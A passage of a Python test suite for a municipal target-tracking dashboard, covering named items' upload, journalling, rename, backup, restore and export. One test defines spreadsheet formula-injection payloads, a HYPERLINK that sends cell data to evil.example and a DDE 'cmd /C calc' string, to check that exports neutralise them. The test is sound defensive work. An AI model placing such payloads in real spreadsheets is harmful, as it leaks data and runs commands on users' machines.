"""Named items through the upload path: read from a file, previewed, stored and
journalled like any figure, kept by a rebuild, a backup and a restore, judged by reporting,
listed on the detail page and in the exports (issue 15, rule 6)."""

import csv
import io
import json
import shutil
from datetime import date, datetime

import openpyxl
import pytest

from dashboard.services import journal, reporting
from dashboard.services.database import open_store, rebuild
from dashboard.services.uploading import preview, store_preview
from dashboard.store import figures as store_figures
from dashboard.store import item_renames
from dashboard.store.connection import connect
from tests.conftest import TODAY
from tests.durable_state import cli
from tests.files import csv_bytes

pytestmark = pytest.mark.both_engines

AT = datetime(2026, 7, 20, 9, 30)
JULY = date(2026, 7, 20)
SCHOOL = "新建、改扩建义务教育阶段学校"
HEADER = ["指标", "项目名称", "时期", "进展情况", "完成时限"]
SCHOOLS = csv_bytes(
    [
        HEADER,
        [SCHOOL, "郑州市第一〇七中学", "2026年6月", "已建成投用", ""],
        [SCHOOL, "二七区实验学校", "2026年6月", "主体完工", "8月底"],
        [SCHOOL, "中原区须水小学", "2026年6月", "暂未开工", "2026-06-30"],
        ["完成积水点治理", "京广路积水点", "2026年6月", "已完成", ""],
    ]
)


def upload(con, ws, data, name="items.csv"):
    pv = preview(con, data, name, TODAY)
    return pv, store_preview(con, ws, pv, data, "alice", AT)


def item_rows(con):
    return con.execute(
        "SELECT id, basis, period_start, period_end, value, raw, item, item_due FROM figures "
        "WHERE item IS NOT NULL ORDER BY source_row"
    ).fetchall()


STORED = [
    ("new_schools", "item", 6, 6, 2.0, "已建成投用", "郑州市第一〇七中学", None),
    ("new_schools", "item", 6, 6, 1.0, "主体完工", "二七区实验学校", date(2026, 8, 31)),
    ("new_schools", "item", 6, 6, 0.0, "暂未开工", "中原区须水小学", date(2026, 6, 30)),
    ("waterlogging_points", "item", 6, 6, 2.0, "已完成", "京广路积水点", None),
]


def test_an_items_file_is_stored_item_by_item_and_journalled(empty_ws):
    with open_store(empty_ws) as con:
        pv, upload_id = upload(con, empty_ws, SCHOOLS)
        assert pv.ok and pv.figures["change"].tolist() == ["new"] * 4
        assert item_rows(con) == STORED
        line = json.loads(journal.raw_lines(empty_ws, con)[-1])
        progress = reporting.progress(con, 2026, 6, today=JULY).set_index("id")
    assert line["data"]["figures"]["item"] == [r[6] for r in STORED]
    assert line["data"]["figures"]["item_due"] == [None, "2026-08-31", "2026-06-30", None]
    schools = progress.loc["new_schools"]
    assert (schools["status"], schools["status_label_zh"], schools["actual"]) == (
        "off_track",
        "项目逾期",
        1.0,
    )
    assert schools["items_open"] == "二七区实验学校；中原区须水小学"
    assert schools["explanation_zh"] == (
        "截至6月，清单所列3所中已完成1所，占全年目标的16.7%（按项目逐个评估，8月底前考核），"
        "尚未完成：二七区实验学校、中原区须水小学（其中已逾期：中原区须水小学），"
        "其余在建项目已不足以完成目标，清单仅列3所，少于目标6所"
    )


def test_a_later_report_revises_each_item_on_its_own(empty_ws):
    later = csv_bytes(
        [
            HEADER,
            [SCHOOL, "二七区实验学校", "2026年6月", "已建成", ""],
            [SCHOOL, "中原区须水小学", "2026年6月", "暂未开工", "2026-06-30"],
        ]
    )
    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        pv, _ = upload(con, empty_ws, later, "later.csv")
        assert pv.figures["change"].tolist() == ["revision", "unchanged"]
        current = store_figures.current_figures(con, 2026)
        history = store_figures.history(con, "郑州市", 2026, "new_schools")
    items = current[current["item"].notna()].sort_values("item")
    assert items[["item", "value"]].values.tolist() == [
        ["中原区须水小学", 0.0],
        ["二七区实验学校", 2.0],
        ["京广路积水点", 2.0],
        ["郑州市第一〇七中学", 2.0],
    ]
    assert history[history["item"] == "二七区实验学校"][["raw", "current"]].values.tolist() == [
        ["已建成", True],
        ["主体完工", False],
    ]


def test_a_rebuild_brings_the_items_back_exactly(empty_ws):
    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
    assert rebuild(empty_ws) == []
    with connect(empty_ws.db_path) as con:
        assert item_rows(con) == STORED


def test_item_rows_that_cannot_be_read_refuse_the_file_and_name_each_row(empty_ws):
    bad = csv_bytes(
        [
            HEADER,
            ["充电桩", "东区充电站", "2026年6月", "已完成", ""],
            [SCHOOL, "一中", "2026年6月", "看情况", ""],
            [SCHOOL, "二中", "2026年6月", "在建", "下个月吧"],
            [SCHOOL, "三中", "2026年6月", "在建", ""],
            [SCHOOL, "三中", "2026年6月", "已完成", ""],
        ]
    )
    with open_store(empty_ws) as con:
        pv = preview(con, bad, "bad.csv", TODAY)
        assert item_rows(con) == []
    assert not pv.ok
    assert [p.line() for p in pv.problems if p.severity == "error"] == [
        "bad.csv:2:D: 新建电动汽车公共充电桩 is not judged item by item — leave the item's "
        "name empty and report the target's figure",
        "bad.csv:3:D: '看情况' is not a milestone state — write 未启动, 推进中 or 已完成 "
        "(or 0, 1, 2); an item listed by mistake or renamed: 已撤销 (withdrawn)",
        "bad.csv:4:D: cannot read the due date '下个月吧' — write it as 2026-08-31, 8月底, "
        "9月 or 年底",
        "bad.csv:6:D: new_schools '三中' Jun appears again (first on row 5) with a different "
        "state '已完成' vs '在建' — keep one row per indicator and period",
    ]


@pytest.mark.parametrize("engine", ["duckdb"], indirect=True)  # backups are of a data folder
def test_items_and_a_rename_survive_a_backup_and_restore_and_reach_the_exports(empty_ws, tmp_path):
    source = tmp_path / "schools.csv"
    source.write_bytes(SCHOOLS)
    out = cli(
        empty_ws, "ingest", str(source), "--admin-override", "--user", "x", "--today", "2026-07-20"
    )
    assert out.returncode == 0, out.stderr
    # renamed from the command line (an admin): the item keeps its report through all that
    rename = ["item", "rename", "new_schools", "--from", "中原区须水小学"]
    out = cli(empty_ws, *rename, "--to", "中原区须水镇中心小学", "--user", "x")
    assert (out.returncode, out.stdout) == (
        0,
        "renamed item '中原区须水小学' of 郑州市/2026/new_schools to '中原区须水镇中心小学' "
        "(journal line 6)\n",
    )
    out = cli(empty_ws, *rename, "--to", "二七区实验学校", "--user", "x")
    assert (out.returncode, out.stderr) == (
        1,
        "error: 郑州市/2026/new_schools has no item named '中原区须水小学'; its items: "
        "郑州市第一〇七中学, 二七区实验学校, 中原区须水镇中心小学\n",
    )
    assert cli(empty_ws, "backup", "--out", str(tmp_path / "b")).returncode == 0
    shutil.rmtree(empty_ws.data_dir)  # the disk is gone
    out = cli(empty_ws, "restore", str(tmp_path / "b"))
    assert out.returncode == 0, out.stderr
    out = cli(
        empty_ws, "progress", "--as-of", "2026-06", "--today", "2026-07-20", "--format", "json"
    )
    rows = {r["id"]: r for r in json.loads(out.stdout)}
    keys = ("items_total", "items_done", "items_open", "items_overdue_names")
    assert [rows["new_schools"][k] for k in keys] == [
        3,
        1,
        ["二七区实验学校", "中原区须水镇中心小学"],  # JSON lists (a CSV cell keeps them joined)
        ["中原区须水镇中心小学"],
    ]
    # counts and months are whole numbers in JSON (3, not 3.0), null where none applies
    assert '"items_total": 3,' in out.stdout and '"items_done": 1,' in out.stdout
    counted = ("items_total", "items_done", "items_overdue", "assessment_month")
    assert [type(rows["new_schools"][k]) for k in counted] == [int] * 4
    assert rows["airport_cargo"]["items_total"] is None
    assert rows["waterlogging_points"]["items_open"] == []  # all done
    assert rows["airport_cargo"]["items_open"] is None  # not an items target
    book = tmp_path / "p.xlsx"
    out = cli(
        empty_ws,
        "export",
        "--as-of",
        "2026-06",
        "--format",
        "xlsx",
        "--out",
        str(book),
        "--today",
        "2026-07-20",
    )
    assert out.returncode == 0, out.stderr
    sheets = openpyxl.load_workbook(io.BytesIO(book.read_bytes()))
    assert sheets.sheetnames == ["汇总", "明细", "清单项目"]
    assert list(sheets["清单项目"].iter_rows(values_only=True)) == [
        ("指标", "项目", "状态", "报送的进展", "最近报送", "完成时限", "完成月份"),
        (SCHOOL, "郑州市第一〇七中学", "已完成", "已建成投用", "6月", "8月底", "6月"),
        (SCHOOL, "二七区实验学校", "推进中", "主体完工", "6月", "8月底", None),
        (SCHOOL, "中原区须水镇中心小学", "已逾期", "暂未开工", "6月", "6月底", None),
        ("完成积水点治理", "京广路积水点", "已完成", "已完成", "6月", "年底", "6月"),
    ]
    detail = sheets["明细"]
    header = [c.value for c in detail[1]]
    school = next(r for r in detail.iter_rows(values_only=True) if r[1] == SCHOOL)
    assert (
        dict(zip(header, school, strict=True))["未完成项目"]
        == "二七区实验学校；中原区须水镇中心小学"
    )
    # `item list`: each item with its department, state (code and words), the words, the
    # months of its last report and completion and its due date (the renamed name)
    out = cli(empty_ws, "item", "list", "new_schools", "--format", "csv")
    assert (out.returncode, out.stderr) == (0, "")
    assert out.stdout.splitlines() == [
        "item,department,state,state_zh,state_en,words,reported_month,due_date,done_month",
        "郑州市第一〇七中学,市教育局,done,已完成,Done,已建成投用,6,2026-08-31,6",
        "二七区实验学校,市教育局,in_progress,推进中,In progress,主体完工,6,2026-08-31,",
        "中原区须水镇中心小学,市教育局,overdue,已逾期,Overdue,暂未开工,6,2026-06-30,",
    ]
    out = cli(empty_ws, "item", "list", "airport_cargo")
    assert (out.returncode, out.stdout, out.stderr) == (
        1,
        "",
        "error: 郑州市/2026/airport_cargo is not an items target (assessed item by item): "
        "it has no items to list\n",
    )


def test_the_detail_page_lists_the_items_with_their_states(sample_ws, monkeypatch):
    from tests.conftest import add_accounts
    from tests.test_app import login, start, texts

    october = csv_bytes(
        [
            HEADER,
            [SCHOOL, "郑州市第一〇七中学", "2026年10月", "已建成投用", ""],
            [SCHOOL, "二七区实验学校", "2026年10月", "主体完工", "8月底"],
        ]
    )
    with open_store(sample_ws) as con:
        store_preview(con, sample_ws, preview(con, october, "oct.csv", TODAY), october, "a", AT)
    add_accounts(sample_ws)
    app = start(sample_ws, monkeypatch)
    app.switch_page("ui/detail.py").run()
    app.selectbox(key="target").set_value("new_schools").run()
    assert not app.exception, [e.value for e in app.exception]
    assert "共2项，已完成1项，逾期1项" in texts(app)
    items = next(d.value for d in app.dataframe if "项目" in d.value.columns)
    assert items.values.tolist() == [
        ["郑州市第一〇七中学", "逾期完成", "已建成投用", "10月", "8月底", "10月"],
        ["二七区实验学校", "已逾期", "主体完工", "10月", "8月底", ""],
    ]
    history = next(d.value for d in app.dataframe if "时期" in d.value.columns)
    reported = history[history["项目"] != ""]
    assert reported[["时期", "项目", "数值"]].values.tolist() == [
        ["10月", "郑州市第一〇七中学", "已建成投用"],
        ["10月", "二七区实验学校", "主体完工"],
    ]
    # an admin renames an item on the page; its reports stay with it
    assert not [b for b in app.button if b.label == "改名"]  # not for a visitor
    login(app, "admin")
    app.selectbox(key="item_rename_old").set_value("二七区实验学校")
    app.text_input(key="item_rename_new").set_value("二七区实验学校（南校区）")
    next(b for b in app.button if b.label == "改名").click().run()
    assert not app.exception, [e.value for e in app.exception]
    assert [m.value for m in app.success] == [
        "已将“二七区实验学校”改名为“二七区实验学校（南校区）”，其报送历史保留。"
    ]
    items = next(d.value for d in app.dataframe if "项目" in d.value.columns)
    assert items.values.tolist()[1] == [
        "二七区实验学校（南校区）",
        "已逾期",
        "主体完工",
        "10月",
        "8月底",
        "",
    ]


def test_the_pages_xlsx_of_the_live_view_has_the_items_sheet(empty_ws):
    from dashboard.services import exporting
    from dashboard.ui import common

    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        frame = reporting.progress(con, 2026, 6, today=JULY, explained=False)
    head = exporting.heading(frame, 2026, 6, "en")
    live = common.audited_export(
        empty_ws, "x", frame, "xlsx", head, "en", items_of=(2026, 6), as_of="2026-06"
    )()
    book = openpyxl.load_workbook(io.BytesIO(live))
    assert book.sheetnames == ["Summary", "Detail", "Named items"]
    rows = list(book["Named items"].iter_rows(values_only=True))
    assert rows[0] == (
        "Indicator",
        "Item",
        "State",
        "As reported",
        "Last reported",
        "Due",
        "Done in",
    )
    assert rows[3] == (
        "Compulsory-education schools built or expanded",
        "中原区须水小学",
        "Overdue",
        "暂未开工",
        "Jun",
        "end of Jun",
        None,
    )
    frozen = common.audited_export(empty_ws, "x", frame, "xlsx", head, "en")()
    assert openpyxl.load_workbook(io.BytesIO(frozen)).sheetnames == ["Summary", "Detail"]


def test_a_withdrawn_item_is_journalled_kept_by_a_rebuild_and_off_the_list(empty_ws):
    renamed = csv_bytes(
        [
            HEADER,
            [SCHOOL, "中原区须水小学", "2026年7月", "已撤销（更名）", ""],
            [SCHOOL, "中原区须水镇中心小学", "2026年7月", "在建", "2026-09-30"],
        ]
    )
    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        pv, _ = upload(con, empty_ws, renamed, "renamed.csv")
        assert pv.ok, [p.line() for p in pv.problems]
        line = json.loads(journal.raw_lines(empty_ws, con)[-1])
    assert line["data"]["figures"]["value"][0] == 3.0
    assert line["data"]["figures"]["raw"][0] == "已撤销（更名）"
    assert rebuild(empty_ws) == []
    with connect(empty_ws.db_path) as con:
        progress = reporting.progress(con, 2026, 7, today=JULY).set_index("id")
        items = reporting.items(con, 2026, 7)
        history = store_figures.history(con, "郑州市", 2026, "new_schools")
    schools = progress.loc["new_schools"]
    assert (schools["items_total"], schools["items_done"], schools["items_overdue"]) == (3, 1, 0)
    assert schools["items_open"] == "二七区实验学校；中原区须水镇中心小学"
    withdrawn = history[history["item"] == "中原区须水小学"]
    assert withdrawn["raw"].tolist() == ["暂未开工", "已撤销（更名）"]
    states = dict(zip(items["item"], items["state"], strict=True))
    assert states["中原区须水小学"] == "withdrawn"


def test_a_milestone_cannot_be_withdrawn(empty_ws):
    bad = csv_bytes(
        [
            ["指标", "时期", "进展情况"],
            ["开工建设郑开大道智慧化改造", "2026年6月", "已取消"],
        ]
    )
    with open_store(empty_ws) as con:
        pv = preview(con, bad, "m.csv", TODAY)
    assert [p.line() for p in pv.problems if p.severity == "error"] == [
        "m.csv:2:C: '已取消': only a listed item can be withdrawn, not a milestone — write the "
        "milestone's progress (未启动, 推进中 or 已完成); if the target changed, ask the "
        "administrator to change it"
    ]


def _filled(rows: list[list], states: dict) -> list[list]:
    """The form's rows with each item's state written in the 数值 column."""
    return [[*r[:4], states.get(r[2], r[4]), *r[5:]] for r in rows]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_fill_in_form_lists_the_items_and_reads_back_as_items(empty_ws, fmt):
    from dashboard.services import exporting

    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        withdraw = csv_bytes([HEADER, [SCHOOL, "中原区须水小学", "2026年6月", "取消", ""]])
        upload(con, empty_ws, withdraw, "withdraw.csv")
        targets = reporting.targets(con, 2026)
        items = reporting.items(con, 2026, 7)
    mine = targets[targets["department"] == "市教育局"]
    data, count = exporting.fill_in_template(mine, 2026, 7, fmt, ["市教育局"], items)
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data))["填报"]
        rows = [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)]
        rows = [[("" if v is None else v) for v in r] for r in rows]
    else:
        rows = [r.split(",") for r in data.decode("utf-8-sig").splitlines()]
    header, body = rows[0], rows[1:]
    assert header == [
        "指标ID",
        "指标名称",
        "项目名称",
        "时期",
        "数值",
        "完成时限",
        "单位",
        "口径",
        "责任单位",
        "备注",
    ]
    schools = [r for r in body if r[0] == "new_schools"]
    assert [r[2:6] + r[9:] for r in schools] == [
        ["郑州市第一〇七中学", "2026年7月", "", "", "上次（6月）：已完成（已建成投用）"],
        ["二七区实验学校", "2026年7月", "", "2026-08-31", "上次（6月）：推进中（主体完工）"],
    ]  # the withdrawn 中原区须水小学 is not asked for again
    assert count == len({r[0] for r in body})
    if fmt == "xlsx":  # the workbook itself, as the department saves it
        book = openpyxl.load_workbook(io.BytesIO(data))
        row = next(r for r in book["填报"].iter_rows() if r[2].value == "二七区实验学校")
        row[4].value = "已建成"
        out = io.BytesIO()
        book.save(out)
        back = out.getvalue()
    else:
        back = csv_bytes([header, *_filled(body, {"二七区实验学校": "已建成"})])
    with open_store(empty_ws) as con:
        pv, _ = upload(con, empty_ws, back, f"back.{fmt}")
        assert pv.ok, [p.line() for p in pv.problems]
        stored = con.execute(
            "SELECT item, period_end, value, raw, item_due FROM figures "
            "WHERE item IS NOT NULL AND period_end = 7 ORDER BY item"
        ).fetchall()
        progress = reporting.progress(con, 2026, 7, today=JULY).set_index("id")
    assert stored == [("二七区实验学校", 7, 2.0, "已建成", date(2026, 8, 31))]
    schools = progress.loc["new_schools"]
    assert (schools["items_total"], schools["items_done"]) == (2, 2)


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("engine", ["duckdb"], indirect=True)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_form_carries_item_names_as_text_and_reads_them_back(empty_ws, fmt):
    """An item an upload named =HYPERLINK(...) was a live formula in the department's
    form (an .xlsx formula cell, a CSV cell Excel runs). Written with a leading ', it
    must still read back as the same item, not a new one."""
    from dashboard.services import exporting

    named = csv_bytes([HEADER, *[[SCHOOL, n, "2026年6月", "推进中", "年底"] for n in HOSTILE]])
    with open_store(empty_ws) as con:
        upload(con, empty_ws, named)
        targets = reporting.targets(con, 2026)
        items = reporting.items(con, 2026, 7)
    mine = targets[targets["id"] == "new_schools"]
    data, _ = exporting.fill_in_template(mine, 2026, 7, fmt, ["市教育局"], items)
    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for r in book["填报"].iter_rows() for c in r if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        values = book["填报"].iter_rows(min_row=2, values_only=True)
        rows = [[("" if v is None else v) for v in r] for r in values]
    else:
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    listed = [r[2] for r in rows[1:] if r[0] == "new_schools"]
    assert listed == ["'" + n for n in HOSTILE]
    back = csv_bytes([rows[0], *[[*r[:4], "已完成", *r[5:]] for r in rows[1:]]])
    with open_store(empty_ws) as con:
        pv, _ = upload(con, empty_ws, back, "back.csv")
        assert pv.ok, [p.line() for p in pv.problems]
        stored = con.execute(
            "SELECT DISTINCT item FROM figures WHERE item IS NOT NULL ORDER BY item"
        ).fetchall()
    assert stored == [(n,) for n in sorted(HOSTILE)]


@pytest.mark.parametrize("engine", ["duckdb"], indirect=True)  # the command line's output
def test_a_dry_run_lists_the_items_it_read(empty_ws, tmp_path):
    source = tmp_path / "schools.csv"
    source.write_bytes(SCHOOLS)
    out = cli(empty_ws, "ingest", str(source), "--dry-run", "--admin-override", "--user", "x")
    assert out.returncode == 0, out.stderr
    assert out.stdout.splitlines() == [
        "schools.csv: new_schools 2026-06: 3 named item(s)",
        "  郑州市第一〇七中学: Done (已建成投用)",
        "  二七区实验学校: In progress (主体完工), due 2026-08-31",
        "  中原区须水小学: Not started (暂未开工), due 2026-06-30",
        "schools.csv: waterlogging_points 2026-06: 1 named item(s)",
        "  京广路积水点: Done (已完成)",
        "4 figure(s) to store, 0 row(s) skipped (not catalogue indicators); "
        "dry run, nothing stored",
    ]
    with connect(empty_ws.db_path) as con:
        assert item_rows(con) == []


def test_a_snapshot_freezes_the_item_list_through_later_reports_and_a_rebuild(empty_ws):
    from dashboard.services import snapshots

    later = csv_bytes(
        [
            HEADER,
            [SCHOOL, "二七区实验学校", "2026年6月", "已建成", ""],
            [SCHOOL, "中原区须水小学", "2026年6月", "已撤销", ""],
        ]
    )
    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        sid = snapshots.take(empty_ws, con, 2026, 6, note="", user="u", at=AT)
        upload(con, empty_ws, later, "later.csv")
        live = reporting.items(con, 2026, 6)
    assert live["state"].tolist()[:3] == ["done", "done", "withdrawn"]
    assert rebuild(empty_ws) == []
    with connect(empty_ws.db_path) as con:
        frozen = snapshots.items(con, sid)
        _, frame = snapshots.load(con, sid)
    assert "named_items" not in frame.columns
    assert frozen[["id", "item", "state", "words", "due_date", "own_due"]].values.tolist() == [
        ["new_schools", "郑州市第一〇七中学", "done", "已建成投用", date(2026, 8, 31), None],
        [
            "new_schools",
            "二七区实验学校",
            "in_progress",
            "主体完工",
            date(2026, 8, 31),
            date(2026, 8, 31),
        ],
        [
            "new_schools",
            "中原区须水小学",
            "overdue",
            "暂未开工",
            date(2026, 6, 30),
            date(2026, 6, 30),
        ],
        ["waterlogging_points", "京广路积水点", "done", "已完成", date(2026, 12, 31), None],
    ]


@pytest.mark.parametrize("engine", ["duckdb"], indirect=True)  # the command line's files
def test_a_snapshots_xlsx_has_the_items_sheet_as_frozen(empty_ws, tmp_path):
    source = tmp_path / "schools.csv"
    source.write_bytes(SCHOOLS)
    ingest = ("ingest", "--admin-override", "--user", "x", "--today", "2026-07-20")
    assert cli(empty_ws, *ingest[:1], str(source), *ingest[1:]).returncode == 0
    taken = cli(empty_ws, "snapshot", "--as-of", "2026-06", "--admin-override")
    assert taken.returncode == 0, taken.stderr
    later = tmp_path / "later.csv"
    later.write_bytes(csv_bytes([HEADER, [SCHOOL, "中原区须水小学", "2026年6月", "已取消", ""]]))
    assert cli(empty_ws, *ingest[:1], str(later), *ingest[1:]).returncode == 0
    book = tmp_path / "s.xlsx"
    out = cli(empty_ws, "export", "--snapshot", "1", "--format", "xlsx", "--out", str(book))
    assert out.returncode == 0, out.stderr
    sheets = openpyxl.load_workbook(io.BytesIO(book.read_bytes()))
    assert sheets.sheetnames == ["汇总", "明细", "清单项目"]
    rows = list(sheets["清单项目"].iter_rows(values_only=True))
    assert rows[3] == (SCHOOL, "中原区须水小学", "已逾期", "暂未开工", "6月", "6月底", None)


def test_the_snapshot_pages_xlsx_has_the_frozen_items_sheet(empty_ws):
    from dashboard.services import exporting, snapshots
    from dashboard.ui import common

    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        sid = snapshots.take(empty_ws, con, 2026, 6, note="", user="u", at=AT)
        withdraw = csv_bytes([HEADER, [SCHOOL, "二七区实验学校", "2026年6月", "撤销", ""]])
        upload(con, empty_ws, withdraw, "withdraw.csv")
        info, frame = snapshots.load(con, sid)
    head = exporting.heading(frame, 2026, 6, "zh", info)
    data = common.audited_export(empty_ws, "x", frame, "xlsx", head, "zh", snapshot_items=sid)()
    rows = list(openpyxl.load_workbook(io.BytesIO(data))["清单项目"].iter_rows(values_only=True))
    assert [r[1:3] for r in rows[1:]] == [
        ("郑州市第一〇七中学", "已完成"),
        ("二七区实验学校", "推进中"),
        ("中原区须水小学", "已逾期"),
        ("京广路积水点", "已完成"),
    ]


def renamer(role: str = "admin"):
    from dashboard.core.access import User

    return User("admin" if role == "admin" else "wang", role, frozenset({"市教育局"}))


@pytest.mark.both_engines
def test_a_renamed_item_keeps_its_reports_through_a_rebuild(empty_ws):
    """Renamed, an item keeps its state, its due date and the words of every report; the
    rename is audited and journalled (kind item), so a rebuild gives the same names."""
    from dashboard.services import item_names
    from dashboard.services.accounts import NotAllowed
    from dashboard.services.comments import find_target
    from dashboard.services.item_names import ItemRefused

    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        target = find_target(con, "new_schools", 2026)
        before = reporting.items(con, 2026, 6).set_index("item")
        refusals = [
            ("中原区须水镇小学", "新校", "item.rename.unknown"),
            ("中原区须水小学", "二七区实验学校", "item.rename.taken"),
            ("中原区须水小学", "中原区须水小学", "item.rename.same"),
            ("中原区须水小学", "  ", "item.rename.empty"),
        ]
        for old, new, key in refusals:
            with pytest.raises(ItemRefused) as err:
                item_names.rename(empty_ws, con, renamer(), target, old, new, AT)
            assert err.value.key == key
        assert str(err.value) == "the new name is empty"
        with pytest.raises(ItemRefused) as err:  # its names listed as English lists them
            item_names.rename(empty_ws, con, renamer(), target, "新校", "新校二", AT)
        assert str(err.value) == (
            "郑州市/2026/new_schools has no item named '新校'; its items: "
            "郑州市第一〇七中学, 二七区实验学校, 中原区须水小学"
        )
        with pytest.raises(NotAllowed):
            uploader = renamer("uploader")  # of the target's department, not an admin
            item_names.rename(empty_ws, con, uploader, target, "中原区须水小学", "新校", AT)
        item_names.rename(
            empty_ws, con, renamer(), target, "中原区须水小学", " 中原区须水镇中心小学 ", AT
        )
        line = json.loads(journal.raw_lines(empty_ws, con)[-1])
    assert (line["v"], line["kind"]) == (3, "item")
    assert line["data"] == {
        "action": "rename",
        "entity": "郑州市",
        "year": 2026,
        "id": "new_schools",
        "from": "中原区须水小学",
        "to": "中原区须水镇中心小学",
    }
    assert line["audit"] == {
        "action": "item",
        "outcome": "renamed",
        "detail": {
            "target": "郑州市/2026/new_schools",
            "item_from": "中原区须水小学",
            "item_to": "中原区须水镇中心小学",
        },
    }
    assert rebuild(empty_ws) == []
    with connect(empty_ws.db_path) as con:
        after = reporting.items(con, 2026, 6).set_index("item")
        progress = reporting.progress(con, 2026, 6, today=JULY).set_index("id")
        assert item_names.names(con, target) == [
            "郑州市第一〇七中学",
            "二七区实验学校",
            "中原区须水镇中心小学",
        ]
    kept = ["state", "words", "reported_month", "due_date", "own_due"]
    assert (
        after.loc["中原区须水镇中心小学", kept].tolist()
        == before.loc["中原区须水小学", kept].tolist()
    )
    assert after.loc["中原区须水镇中心小学", "state"] == "overdue"
    assert progress.loc["new_schools", "items_overdue_names"] == "中原区须水镇中心小学"


@pytest.mark.both_engines
def test_a_report_under_an_old_name_is_the_renamed_item(empty_ws):
    """A department keeps its spreadsheet: a report under a name an administrator changed
    (even twice) is the renamed item, stored under its name now with a warning on its row;
    a name renamed away and given back is its own item's again. A rebuild agrees."""
    from dashboard.services import item_names
    from dashboard.services.comments import find_target

    july = csv_bytes([HEADER, [SCHOOL, "中原区须水小学", "2026年7月", "已完成", ""]])
    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        target = find_target(con, "new_schools", 2026)
        item_names.rename(empty_ws, con, renamer(), target, "中原区须水小学", "须水小学", AT)
        item_names.rename(empty_ws, con, renamer(), target, "须水小学", "须水镇中心小学", AT)
        pv, _ = upload(con, empty_ws, july, "july.csv")
        assert [(p.line("zh"), p.severity) for p in pv.problems] == [
            (
                "july.csv:2:-: 项目“中原区须水小学”已改名为“须水镇中心小学”，按新名称记入"
                " — 以后报送请使用新名称“须水镇中心小学”",
                "warning",
            )
        ]
        assert pv.figures["change"].tolist() == ["new"]  # July's first report of it
        rows = item_rows(con)
    assert [r for r in rows if r[3] == 7] == [
        ("new_schools", "item", 7, 7, 2.0, "已完成", "须水镇中心小学", None)
    ]
    assert [r[6] for r in rows].count("中原区须水小学") == 0
    assert rebuild(empty_ws) == []
    with connect(empty_ws.db_path) as con:
        assert sorted(item_rows(con), key=str) == sorted(rows, key=str)
        item_names.rename(empty_ws, con, renamer(), target, "二七区实验学校", "须水小学", AT)
        again = csv_bytes([HEADER, [SCHOOL, "须水小学", "2026年7月", "主体完工", ""]])
        pv = preview(con, again, "again.csv", TODAY)  # 须水小学 is a live name again
        assert [p.key for p in pv.problems] == []
        assert item_renames.now_named(con, pv.parsed.figures) == {
            ("郑州市", 2026, "new_schools", "中原区须水小学"): "须水镇中心小学",
            ("郑州市", 2026, "new_schools", "二七区实验学校"): "须水小学",
        }


def test_an_item_under_both_its_names_or_renamed_after_the_preview_is_one_item(empty_ws):
    """A file giving one month of an item under its old and its new name repeats it: two
    states are refused at the second row, one is said once. An item renamed between the
    preview and the confirmation is filed under its name now, not split in two."""
    from dashboard.core.problems import IngestError
    from dashboard.services import item_names
    from dashboard.services.comments import find_target

    def july(*rows):
        return csv_bytes([HEADER, *([SCHOOL, n, "2026年7月", s, ""] for n, s in rows)])

    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        target = find_target(con, "new_schools", 2026)
        item_names.rename(empty_ws, con, renamer(), target, "中原区须水小学", "须水小学", AT)
        both = preview(
            con, july(("中原区须水小学", "已完成"), ("须水小学", "在建")), "b.csv", TODAY
        )
        assert [(p.row, p.key, p.severity) for p in both.problems] == [
            (2, "item.renamed_since", "warning"),
            (3, "item.repeated_differs", "error"),
        ]
        assert not both.ok
        same = preview(con, july(("中原区须水小学", "在建"), ("须水小学", "在建")), "s.csv", TODAY)
        assert same.ok and same.parsed.figures["item"].tolist() == ["须水小学"]
        pv = preview(con, july(("二七区实验学校", "已完成")), "late.csv", TODAY)
        item_names.rename(empty_ws, con, renamer(), target, "二七区实验学校", "二七实验", AT)
        store_preview(con, empty_ws, pv, july(("二七区实验学校", "已完成")), "alice", AT)
        assert sorted(item_names.names(con, target)) == [
            "二七实验",
            "郑州市第一〇七中学",
            "须水小学",
        ]
        stored = item_rows(con)
        clash = july(("须水小学", "在建"), ("须水新校", "已完成"))  # and a new item
        pv = preview(con, clash, "c.csv", TODAY)
        assert pv.ok
        item_names.rename(empty_ws, con, renamer(), target, "须水小学", "须水新校", AT)
        with pytest.raises(IngestError) as err:  # the rename made the two rows one item
            store_preview(con, empty_ws, pv, clash, "alice", AT)
        assert (
            item_rows(con)
            == [  # nothing of it stored; the rename kept
                r if r[6] != "须水小学" else (*r[:6], "须水新校", r[7]) for r in stored
            ]
        )
    assert [(p.row, p.key) for p in err.value.problems] == [(3, "item.repeated_differs")]


@pytest.mark.both_engines
def test_a_store_from_before_old_names_learns_its_renames_from_its_audit(empty_ws):
    """A store whose renames were made before it kept old names (no item_renames table):
    opening it fills the table from the renames' audit rows, chains resolved."""
    from dashboard.services import item_names
    from dashboard.services.comments import find_target
    from dashboard.store.schema import set_meta

    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        target = find_target(con, "new_schools", 2026)
        item_names.rename(empty_ws, con, renamer(), target, "中原区须水小学", "须水小学", AT)
        item_names.rename(empty_ws, con, renamer(), target, "须水小学", "须水中心小学", AT)
        con.execute("DROP TABLE item_renames")
        set_meta(con, "schema_version", "from before")
    with open_store(empty_ws) as con:
        pv = preview(
